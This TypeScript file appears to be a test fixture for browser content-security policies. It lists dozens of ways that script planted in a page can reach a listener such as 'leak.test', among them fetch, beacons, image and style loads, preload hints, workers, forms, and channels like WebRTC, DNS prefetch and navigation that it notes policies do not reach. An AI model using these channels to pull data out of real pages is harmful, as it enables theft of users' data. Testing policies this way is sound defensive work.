// The ways in which a page can send what it holds to somebody, each as a few lines that are planted in a page. Knows no policy.

/** Where a leak goes. All but names is heard by one listener. */
export interface LeakAddress {
  /** `http://leak.test:1234/open/fetch`: what is asked for tells which leak it was. */
  readonly url: string;
  /** The same for a WebSocket. */
  readonly ws: string;
  /** `127.0.0.1:1234`: hears UDP. */
  readonly udp: string;
  /** An origin of its own, where the connection alone is heard. */
  readonly ahead: string;
  /** A name that nobody has: looking it up is the leak. */
  readonly name: string;
}

/** One way out. */
export interface Leak {
  readonly kind: string;
  /** Runs in the page, and knows nothing but its argument. */
  readonly plant: (to: LeakAddress) => unknown;
}

/** Requests by script. */
const requests: readonly Leak[] = [
  { kind: "fetch", plant: ({ url }) => void fetch(url, { mode: "no-cors" }).catch(() => undefined) },
  {
    kind: "fetch-keepalive",
    plant: ({ url }) =>
      void fetch(url, { method: "POST", body: "x", keepalive: true, mode: "no-cors" }).catch(() => undefined),
  },
  {
    kind: "xhr",
    plant: ({ url }) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
    },
  },
  { kind: "beacon", plant: ({ url }) => navigator.sendBeacon(url, "x") },
  { kind: "event-source", plant: ({ url }) => void new EventSource(url) },
  { kind: "web-socket", plant: ({ ws }) => void new WebSocket(ws) },
  {
    kind: "ping",
    plant: ({ url }) => {
      const link = document.createElement("a");
      link.href = "#pinged";
      link.ping = url;
      document.body.append(link);
      link.click();
    },
  },
];

/** Elements that fetch what they name. */
const elements: readonly Leak[] = [
  {
    kind: "image",
    plant: ({ url }) => {
      new Image().src = url;
    },
  },
  {
    kind: "image-set",
    plant: ({ url }) => {
      const image = document.createElement("img");
      image.srcset = `${url} 1x`;
      document.body.append(image);
    },
  },
  {
    kind: "svg-image",
    plant: ({ url }) => {
      document.body.insertAdjacentHTML(
        "beforeend",
        `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`,
      );
    },
  },
  {
    kind: "input-image",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<input type="image" src="${url}">`),
  },
  {
    kind: "favicon",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="icon" href="${url}">`),
  },
  {
    kind: "iframe",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<iframe src="${url}"></iframe>`),
  },
  {
    kind: "object",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<object data="${url}"></object>`),
  },
  {
    kind: "embed",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<embed src="${url}">`),
  },
  {
    kind: "video",
    plant: ({ url }) =>
      void document.body.insertAdjacentHTML("beforeend", `<video src="${url}" preload="auto"></video>`),
  },
  {
    kind: "video-poster",
    plant: ({ url }) =>
      void document.body.insertAdjacentHTML("beforeend", `<video poster="${url}" width="9" height="9"></video>`),
  },
  { kind: "audio", plant: ({ url }) => void new Audio(url).play().catch(() => undefined) },
  {
    kind: "script",
    plant: ({ url }) => {
      const script = document.createElement("script");
      script.src = url;
      document.body.append(script);
    },
  },
];

/** What style sheets fetch. A sheet made by script is not held back itself: only what it names is. */
const styles: readonly Leak[] = [
  {
    kind: "style-link",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="${url}">`),
  },
  {
    kind: "style-import",
    plant: ({ url }) => {
      const style = document.createElement("style");
      style.textContent = `@import url("${url}");`;
      document.head.append(style);
    },
  },
  {
    kind: "style-background",
    plant: ({ url }) => {
      document.body.style.backgroundImage = `url("${url}")`;
    },
  },
  {
    kind: "style-sheet",
    plant: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { list-style-image: url("${url}"); display: list-item; }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  {
    kind: "font",
    plant: ({ url }) => void new FontFace("planted", `url("${url}")`).load().catch(() => undefined),
  },
];

/** Hints that make a browser fetch ahead. */
const hints: readonly Leak[] = [
  {
    kind: "prefetch",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="prefetch" href="${url}">`),
  },
  {
    kind: "modulepreload",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="modulepreload" href="${url}">`),
  },
  {
    kind: "preload-image",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="image" href="${url}">`),
  },
  {
    kind: "preload-style",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="style" href="${url}">`),
  },
  {
    kind: "preload-script",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="script" href="${url}">`),
  },
  {
    kind: "preload-font",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="font" crossorigin href="${url}">`),
  },
  {
    kind: "preload-fetch",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="fetch" crossorigin href="${url}">`),
  },
];

/** Forms, workers, and what reaches the net besides HTTP. */
const others: readonly Leak[] = [
  {
    kind: "form",
    plant: ({ url }) => {
      document.body.insertAdjacentHTML(
        "beforeend",
        `<iframe name="planted"></iframe><form method="post" action="${url}" target="planted"></form>`,
      );
      document.forms.item(document.forms.length - 1)?.submit();
    },
  },
  {
    kind: "worker",
    plant: ({ url }) => {
      const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      try {
        void new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
      } catch {
        // Refused at once.
      }
    },
  },
  {
    kind: "shared-worker",
    plant: ({ url }) => {
      const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      try {
        void new SharedWorker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
      } catch {
        // Refused at once.
      }
    },
  },
];

/** What no content policy reaches, or not in every browser. */
const beyondPolicies: readonly Leak[] = [
  {
    kind: "web-rtc",
    plant: async ({ udp }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      peer.createDataChannel("planted");
      await peer.setLocalDescription();
    },
  },
  {
    kind: "preconnect",
    plant: ({ ahead }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="preconnect" href="${ahead}">`),
  },
  {
    kind: "dns-prefetch",
    plant: ({ name }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="dns-prefetch" href="http://${name}/">`),
  },
  { kind: "window-open", plant: ({ url }) => void window.open(url) },
  // The last one: the page is gone afterwards.
  {
    kind: "navigation",
    plant: ({ url }) => {
      location.href = url;
    },
  },
];

/** Every way out that a content policy is there to stop. */
export const policedLeaks: readonly Leak[] = [...requests, ...elements, ...styles, ...hints, ...others];

/** Every way out that was thought of, in the order in which they are to be planted. */
export const leaks: readonly Leak[] = [...policedLeaks, ...beyondPolicies];
